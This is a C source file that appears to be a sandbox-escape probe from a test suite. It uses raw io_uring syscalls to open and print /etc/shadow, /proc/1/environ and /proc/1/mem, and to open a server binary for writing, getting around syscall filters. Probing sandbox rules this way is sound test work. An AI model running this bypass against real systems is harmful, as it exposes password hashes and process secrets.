/* against 05-drain: asks io_uring for what it is not allowed to call. */
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
    struct io_uring_params p = {0};
    const int ring = (int)syscall(SYS_io_uring_setup, 8, &p);
    if (ring == -1)
        return 1;
    char *queue = mmap(NULL, p.sq_off.array + 64, PROT_READ | PROT_WRITE,
                       MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *e = mmap(NULL, 8 * sizeof *e, PROT_READ | PROT_WRITE,
                                  MAP_SHARED, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || (void *)e == MAP_FAILED)
        return 1;
    static const char *const files[] = {"/etc/shadow", "/proc/1/environ",
                                        "/proc/1/mem", "/work/server"};
    for (unsigned i = 0; i < 4; i++) {
        e[i] = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
                                     .fd = -100,
                                     .addr = (unsigned long)files[i],
                                     .open_flags = i == 3 ? 1 : 0};
        ((unsigned *)(queue + p.sq_off.array))[i] = i;
    }
    *(unsigned *)(queue + p.sq_off.tail) = 4;
    syscall(SYS_io_uring_enter, ring, 4, 4, 1, NULL, 0);
    for (int fd = 0; fd < 16; fd++) {
        char bytes[100];
        const ssize_t n = fd == ring ? 0 : pread(fd, bytes, sizeof bytes, 0);
        if (n > 0)
            printf("%.*s\n", (int)n, bytes);
    }
    fflush(stdout);
    pause();
}
